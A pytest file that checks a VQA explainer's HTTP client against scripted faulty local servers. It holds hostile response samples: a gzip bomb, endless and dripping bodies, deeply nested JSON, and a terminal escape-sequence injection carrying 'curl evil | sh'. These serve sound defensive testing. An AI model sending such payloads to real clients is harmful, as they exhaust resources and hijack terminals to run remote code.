"""Faults the HTTP adapter survives, or reports in one line: real servers on 127.0.0.1 that
fail on purpose, checked through the adapter and through ``bbvqa explain`` (exit code 1, one
line, no traceback without --debug, no output files)."""

from __future__ import annotations

import contextlib
import functools
import gzip
import http.server
import json
import threading
import time
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from blackbox_vqa.adapters.http.config import Limits, RetryPolicy, Timeouts
from blackbox_vqa.adapters.http.endpoint import HttpAdapter
from blackbox_vqa.errors import InputError, ModelError, ModelLoadError, ModelOutputError
from blackbox_vqa.explainers.occlusion import Occlusion
from blackbox_vqa.server.app import create_app
from blackbox_vqa.wire import PROTOCOL, answers_digest, decode_image
from cli_runner import run_cli
from live_server import scripted_server, send_json, uvicorn_server

from toys import BrightnessModel

QUESTION = "is it not bright?"


@dataclass
class FaultyServer:
    """Speaks the ``ours`` protocol for the brightness model, with scripted faults.

    ``faults[i]`` is what the ``i``-th POST gets (then "ok"); ``always`` applies to every
    POST; ``max_items`` answers 413 to larger batches.
    """

    faults: list[str] = field(default_factory=list)
    always: str | None = None
    max_items: int | None = None
    sleep: float = 1.0
    posts: list[int] = field(default_factory=list)
    answered: list[int] = field(default_factory=list)
    sent: int = 0
    model: BrightnessModel = field(default_factory=BrightnessModel)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def info(self) -> bytes:
        return json.dumps({"protocol": PROTOCOL, "name": "faulty",
                           "answers": list(self.model.answers),
                           "capabilities": {"image_encodings": ["png", "jpeg", "npy"]}}).encode()

    def digest(self) -> str:
        return answers_digest(self.model.answers)

    def __call__(self, handler: http.server.BaseHTTPRequestHandler, method: str,
                 body: bytes) -> None:
        if method == "GET":
            send_json(handler, 200, self.info())
            return
        items = json.loads(body)["items"]
        with self.lock:
            index = len(self.posts)
            self.posts.append(len(items))
        fault = self.always or (self.faults[index] if index < len(self.faults) else "ok")
        if self.max_items is not None and len(items) > self.max_items:
            fault = "413"
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.respond(handler, fault, items)

    def respond(self, handler: Any, fault: str, items: list[dict[str, str]]) -> None:
        if fault == "drop":  # read the request, then close without a word
            handler.close_connection = True
            return
        if fault in HOSTILE:
            HOSTILE[fault](handler, self, len(items))
            return
        if fault in ("500", "503", "400", "413", "429"):
            status = int(fault)
            headers = {"Retry-After": "0.05"} if status == 429 else None
            body = {"error": {"status": status, "code": "x", "message": f"scripted {status}"}}
            send_json(handler, status, json.dumps(body).encode(), headers)
            return
        if fault == "slow":
            time.sleep(self.sleep)
        images = [decode_image(item["image"], max_pixels=10**7) for item in items]
        scores = self.model.answer_probs_batch(images, [item["question"] for item in items])
        rows = scores.tolist()
        digest = answers_digest(self.model.answers)
        if fault == "rows":
            rows = rows[:-1]
        elif fault == "nan":
            rows[0][1] = float("nan")
        elif fault == "negative":
            rows[0][0] = -0.25
        elif fault == "digest":
            digest = answers_digest(["yes", "no"])
        body = json.dumps({"scores": rows, "answers_sha256": digest}).encode()
        if fault in ("gzip", "deflate", "raw-deflate"):
            encoding = {"Content-Encoding": fault.removeprefix("raw-")}
            send_json(handler, 200, compress(body, fault), encoding)
            return
        if fault == "malformed":
            body = body[: len(body) // 2]
        if fault == "half":  # promise the whole body, send half, hang up
            handler.send_response(200)
            handler.send_header("Content-Type", "application/json")
            handler.send_header("Content-Length", str(len(body)))
            handler.end_headers()
            handler.wfile.write(body[: len(body) // 2])
            handler.wfile.flush()
            handler.close_connection = True
            return
        with self.lock:
            self.answered.append(len(items))
        send_json(handler, 200, body)


# ------------------------------------------------------------------ hostile answers
# Each writes its answer to the handler; ``sent`` counts the bytes written, so a test can
# check that the client hung up early. Loads stay bounded (a few MiB at most).


def compress(body: bytes, how: str) -> bytes:
    if how == "gzip":
        return gzip.compress(body, compresslevel=9)
    wbits = zlib.MAX_WBITS if how == "deflate" else -zlib.MAX_WBITS
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return packer.compress(body) + packer.flush()


def _endless(handler: Any, server: FaultyServer, n: int) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Transfer-Encoding", "chunked")
    handler.end_headers()
    chunk = b" " * 65536
    for _ in range(1024):  # 64 MiB at most, then give up
        handler.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        server.sent += len(chunk)
    handler.close_connection = True


def _drip(handler: Any, server: FaultyServer, n: int) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    for _ in range(1000):
        handler.wfile.write(b" ")
        handler.wfile.flush()
        server.sent += 1
        time.sleep(0.1)


def _bomb(handler: Any, server: FaultyServer, n: int) -> None:
    body = GZIP_BOMB()
    send_json(handler, 200, body, {"Content-Encoding": "gzip"})
    server.sent += len(body)


def _nested(handler: Any, server: FaultyServer, n: int) -> None:
    send_json(handler, 200, b"[" * 100_000 + b"]" * 100_000)


def _overflow(handler: Any, server: FaultyServer, n: int) -> None:
    huge = "1" + "0" * 400  # a JSON integer no float holds
    rows = ", ".join([f"[{huge}, 0.5]"] * n)
    body = f'{{"scores": [{rows}], "answers_sha256": "{server.digest()}"}}'
    send_json(handler, 200, body.encode())


def _brotli(handler: Any, server: FaultyServer, n: int) -> None:
    send_json(handler, 200, b"\x00" * 64, {"Content-Encoding": "br"})


HOSTILE = {"endless": _endless, "drip": _drip, "bomb": _bomb, "nested": _nested,
           "overflow": _overflow, "br": _brotli}


@functools.cache
def GZIP_BOMB() -> bytes:
    """A valid 'ours' answer padded with 64 MiB of JSON white space: ~64 KiB gzipped."""
    model = BrightnessModel()
    scores = json.dumps(model.answer_probs_batch([np.zeros((32, 32, 3), np.uint8)],
                                                 [QUESTION]).tolist())
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [packer.compress(b'{"scores": ')]
    padding = b" " * 2**20
    parts += [packer.compress(padding) for _ in range(64)]
    parts += [packer.compress(scores.encode() + b"}"), packer.flush()]
    return b"".join(parts)


@pytest.fixture
def image() -> np.ndarray:
    pixels = np.zeros((32, 32, 3), dtype=np.uint8)
    pixels[4:20, 8:24] = 255
    return pixels


def local_result(image: np.ndarray) -> Any:
    return Occlusion(BrightnessModel(), grid=4).explain(image, QUESTION)


def served(fault: FaultyServer) -> Any:
    return scripted_server(fault)


FAST = RetryPolicy(backoff=0.01, max_backoff=0.05)


def fast_adapter(url: str, **options: Any) -> HttpAdapter:
    delays: list[float] = []
    options.setdefault("retries", FAST)
    options.setdefault("timeouts", Timeouts(read=5))
    adapter = HttpAdapter(url, sleep=delays.append, **options)
    adapter.delays = delays  # type: ignore[attr-defined]
    return adapter


# ------------------------------------------------------------------ survived


@pytest.mark.parametrize("first", ["500", "503", "drop", "half"])
def test_a_failed_request_is_retried_and_the_batch_completes(
    first: str, image: np.ndarray
) -> None:
    fault = FaultyServer(faults=["ok", first])  # the second request of the batch fails once
    with served(fault) as url:
        remote = fast_adapter(url, limits=Limits(concurrency=4, batch_size=6))
        result = Occlusion(remote, grid=4, batch_size=21).explain(image, QUESTION)
    expected = local_result(image)
    np.testing.assert_array_equal(result.image_map, expected.image_map)
    np.testing.assert_array_equal(result.word_map, expected.word_map)
    assert len(fault.posts) == 5 and sorted(fault.answered) == [3, 6, 6, 6]
    assert len(remote.delays) == 1 and 0.005 <= remote.delays[0] < 0.01  # jittered backoff


def test_429_retry_after_is_honoured(image: np.ndarray) -> None:
    fault = FaultyServer(faults=["429", "429"])
    with served(fault) as url:
        remote = fast_adapter(url)
        scores = remote.answer_probs(image, QUESTION)
    assert remote.delays == [0.05, 0.05]  # the server's Retry-After, not the backoff
    np.testing.assert_array_equal(scores, BrightnessModel().answer_probs(image, QUESTION))


def test_a_slow_answer_is_retried_after_the_read_timeout(image: np.ndarray) -> None:
    fault = FaultyServer(faults=["slow"], sleep=0.6)
    with served(fault) as url:
        remote = fast_adapter(url, timeouts=Timeouts(read=0.2))
        scores = remote.answer_probs(image, QUESTION)
    assert fault.posts == [1, 1] and len(remote.delays) == 1
    np.testing.assert_array_equal(scores, BrightnessModel().answer_probs(image, QUESTION))


def test_a_413_splits_the_batch_and_goes_on(image: np.ndarray) -> None:
    fault = FaultyServer(max_items=3)
    with served(fault) as url:
        remote = fast_adapter(url, limits=Limits(concurrency=1, batch_size=16))
        result = Occlusion(remote, grid=4, batch_size=21).explain(image, QUESTION)
    expected = local_result(image)
    np.testing.assert_array_equal(result.image_map, expected.image_map)
    np.testing.assert_array_equal(result.word_map, expected.word_map)
    assert sum(fault.answered) == 21 and max(fault.answered) <= 3
    # 16 -> 413, 8 -> 413, 4 -> 413, then the adapter keeps to 2 and is not refused again.
    assert fault.posts[:3] == [16, 8, 4] and all(n <= 2 for n in fault.posts[3:])
    assert remote.delays == []  # a 413 is not a retry


# ------------------------------------------------------------------ reported


@pytest.mark.parametrize(
    ("fault", "kind", "words", "posts"),
    [
        (FaultyServer(always="500"), ModelError,
         "answered HTTP 500 (scripted 500); gave up after 4 attempts", 4),
        (FaultyServer(always="drop"), ModelError,
         "closed the connection without a complete answer", 4),
        (FaultyServer(always="400"), ModelError, "refused the request: HTTP 400 (scripted 400)", 1),
        (FaultyServer(always="malformed"), ModelOutputError, "returned malformed JSON", 1),
        (FaultyServer(always="rows"), ModelOutputError, "returned 0 score rows for 1 inputs", 1),
        (FaultyServer(always="nan"), ModelError, "returned NaN or infinite scores", 1),
        (FaultyServer(always="negative"), ModelError, "returned negative scores (min -0.25)", 1),
        (FaultyServer(always="digest"), ModelOutputError, "answers_sha256 differs", 1),
        (FaultyServer(always="413"), ModelError, "refused a single input as too large", 1),
    ],
)
def test_unusable_answers_raise_one_clear_error(
    fault: FaultyServer, kind: type[Exception], words: str, posts: int, image: np.ndarray
) -> None:
    with served(fault) as url:
        remote = fast_adapter(url)
        with pytest.raises(kind, match=r"HTTP endpoint http://127\.0\.0\.1:\d+") as info:
            remote.answer_probs(image, QUESTION)
    assert words in str(info.value)
    assert len(fault.posts) == posts


def test_a_far_retry_after_fails_at_once(image: np.ndarray) -> None:
    fault = FaultyServer(always="429")
    with served(fault) as url:
        remote = fast_adapter(url, retries=RetryPolicy(backoff=0.01, max_backoff=0.05,
                                                       max_retry_after=0.01))
        with pytest.raises(ModelError, match=r"asked to retry after 0.05 s \(more than 0.01 s\)"):
            remote.answer_probs(image, QUESTION)
    assert fault.posts == [1]


def test_unreachable_endpoint_fails_at_load() -> None:
    with served(FaultyServer()) as url:
        pass  # the port is closed again
    with pytest.raises(ModelLoadError, match=r"/v1/info cannot be connected to .*4 attempts"):
        fast_adapter(url)


# ------------------------------------------------------------------ hostile endpoints


@pytest.mark.parametrize("how", ["gzip", "deflate", "raw-deflate"])
def test_a_compressed_answer_is_decoded(how: str, image: np.ndarray) -> None:
    with served(FaultyServer(always=how)) as url:
        scores = fast_adapter(url).answer_probs(image, QUESTION)
    np.testing.assert_array_equal(scores, BrightnessModel().answer_probs(image, QUESTION))


@pytest.mark.parametrize(
    ("fault", "words"),
    [
        ("endless", "answered with more than 1 MiB of body (after decompression)"),
        ("bomb", "answered with more than 1 MiB of body (after decompression)"),
        ("drip", "did not finish its answer within the 1.5 s total time per request"),
        ("br", "answered with Content-Encoding 'br', which this client does not decode"),
    ],
)
def test_an_answer_over_the_size_or_time_bound_fails_once_and_early(
    fault: str, words: str, image: np.ndarray
) -> None:
    GZIP_BOMB()  # built before the clock runs
    server = FaultyServer(always=fault)
    with served(server) as url:
        # Only the drip meets the total time (a tight one elsewhere could cut a slow start).
        total = 1.5 if fault == "drip" else 30.0
        remote = fast_adapter(url, limits=Limits(max_response_bytes=2**20),
                              timeouts=Timeouts(read=5, total=total))
        started = time.monotonic()
        with pytest.raises(ModelError, match=r"HTTP endpoint http://127\.0\.0\.1:\d+") as info:
            remote.answer_probs(image, QUESTION)
        seconds = time.monotonic() - started
    assert words in str(info.value)
    assert server.posts == [1]  # not retried: the endpoint misbehaves, it is not busy
    assert seconds < 60  # the drip alone would take 100 s; the endless body 64 MiB
    assert server.sent < 16 * 2**20


@pytest.mark.parametrize(
    ("fault", "words"),
    [("nested", "returned JSON nested too deeply to read"),
     ("overflow", "returned a score too large for a 64-bit float")],
)
def test_unreadable_json_numbers_and_nesting_name_the_endpoint(
    fault: str, words: str, image: np.ndarray
) -> None:
    endpoint = r"HTTP endpoint http://127\.0\.0\.1:\d+"
    with served(FaultyServer(always=fault)) as url, \
            pytest.raises(ModelOutputError, match=endpoint) as info:
        fast_adapter(url).answer_probs(image, QUESTION)
    assert words in str(info.value)


def test_the_bounds_are_options_with_finite_defaults() -> None:
    with served(FaultyServer()) as url:
        remote = HttpAdapter(url)
        assert remote.limits.max_response_bytes == 64 * 2**20
        assert remote.timeouts.total == 300.0
        built = HttpAdapter.from_options(url, {"http_total_timeout": 7.5,
                                               "http_max_response_bytes": 4096})
        assert built.limits.max_response_bytes == 4096 and built.timeouts.total == 7.5
        for bad in ({"http_total_timeout": float("inf")}, {"http_total_timeout": 0},
                    {"http_max_response_bytes": 0}):
            with pytest.raises(InputError, match=r"http (total timeout|max response bytes)"):
                HttpAdapter.from_options(url, bad)


def test_a_large_vocabulary_gets_fewer_inputs_per_request(image: np.ndarray) -> None:
    server = FaultyServer()
    with served(server) as url:
        remote = fast_adapter(url, limits=Limits(concurrency=1, batch_size=16,
                                                   max_response_bytes=1024))
        # 2 answers: a row is at most 25 * 2 + 16 bytes, so half of 1 KiB holds 7 rows.
        result = Occlusion(remote, grid=4, batch_size=21).explain(image, QUESTION)
    assert max(server.answered) == 7
    np.testing.assert_array_equal(result.image_map, local_result(image).image_map)


def test_an_endpoints_error_text_is_escaped_for_the_terminal(image: np.ndarray) -> None:
    def handle(handler: Any, method: str, body: bytes) -> None:
        message = "\x1b]0;pwned\x07\x1b[2Jrun: curl evil | sh"
        send_json(handler, 400, json.dumps({"error": message}).encode())

    with scripted_server(handle) as url, pytest.raises(ModelLoadError) as info:
        fast_adapter(url)
    text = str(info.value)
    assert "\x1b" not in text and "\x07" not in text
    assert r"\x1b]0;pwned\x07\x1b[2Jrun: curl evil | sh" in text


# ------------------------------------------------------------------ through the CLI


@pytest.fixture
def explain(square_image: Path, tmp_path: Path) -> Any:
    def call(url: str, *extra: str) -> tuple[int, str, Path]:
        out = tmp_path / "out"
        code, _, err = run_cli(["explain", "-m", url, "-i", str(square_image), "-q", QUESTION,
                                "--grid", "4", "--out", str(out), *extra])
        return code, err, out

    return call


@pytest.mark.parametrize(
    ("fault", "extra", "words"),
    [
        (FaultyServer(always="slow", sleep=1.0), ["--http-timeout", "0.2"],
         "sent no answer within the 0.2 s read timeout (--http-timeout); gave up after 4"),
        (FaultyServer(always="malformed"), [], "returned malformed JSON"),
        (FaultyServer(always="rows"), ["--batch-size", "3", "--http-concurrency", "1"],
         "returned 0 score rows for 1 inputs"),
        (FaultyServer(always="nan"), [], "returned NaN or infinite scores"),
        (FaultyServer(always="drop"), [], "closed the connection without a complete answer"),
        # The default bounds: 64 MiB after decompression, JSON Python can read.
        (FaultyServer(always="bomb"), [], "answered with more than 64 MiB of body (after "
         "decompression)"),
        (FaultyServer(always="nested"), [], "returned JSON nested too deeply to read"),
        (FaultyServer(always="overflow"), [], "returned a score too large for a 64-bit float"),
    ],
)
def test_cli_reports_faults_in_one_line_with_exit_1_and_no_files(
    fault: FaultyServer, extra: list[str], words: str, explain: Any
) -> None:
    with served(fault) as url:
        code, err, out = explain(url, *extra)
    assert code == 1
    assert err.startswith(f"bbvqa: error: HTTP endpoint {url}")
    assert words in err and err.count("\n") == 1 and "Traceback" not in err
    assert not out.exists()


def test_cli_retries_a_500_and_writes_the_explanation(explain: Any) -> None:
    fault = FaultyServer(faults=["500"])
    with served(fault) as url:
        code, err, out = explain(url)
    assert code == 0, err
    # One request was refused and sent again; every input was answered once.
    assert len(fault.posts) == len(fault.answered) + 1 and sum(fault.answered) == 1 + 16 + 4
    doc = json.loads((out / "explanation.json").read_text())
    assert doc["answer"] == "bright" and doc["occlusion"]["words"][2] > 0.5


def test_cli_splits_batches_on_413_and_writes_the_explanation(
    explain: Any, square_image: Path
) -> None:
    fault = FaultyServer(max_items=5)
    with served(fault) as url:
        code, err, out = explain(url)
    assert code == 0, err
    assert max(fault.answered) <= 5 and sum(fault.answered) == 1 + 16 + 4
    doc = json.loads((out / "explanation.json").read_text())
    local = Occlusion(BrightnessModel(), grid=4).explain(str(square_image), QUESTION)
    np.testing.assert_array_equal(doc["occlusion"]["image"], local.image_map)


def test_cli_token_missing_is_a_401_and_debug_shows_the_traceback(explain: Any) -> None:
    with uvicorn_server(create_app(BrightnessModel(), token="tok-123")) as url:
        code, err, out = explain(url)
        assert code == 1 and not out.exists()
        assert err == (f"bbvqa: error: HTTP endpoint {url}/v1/info refused the request: "
                       "HTTP 401 (missing bearer token (send 'Authorization: Bearer <token>')); "
                       "an API key or token is missing or wrong (pass one with --header "
                       "'Authorization: Bearer ...')\n")
        code, err, out = explain(url, "--debug")
        assert code == 1 and "Traceback" in err and err.rstrip().endswith("Bearer ...')")
        code, err, out = explain(url, "--header", "Authorization: Bearer tok-123")
        assert code == 0, err
        assert "tok-123" not in (out / "explanation.json").read_text()


def test_cli_unreachable_endpoint_exits_1(explain: Any) -> None:
    with served(FaultyServer()) as url:
        pass
    code, err, out = explain(url)
    assert code == 1 and "cannot be connected to" in err and "Traceback" not in err
    assert not out.exists()

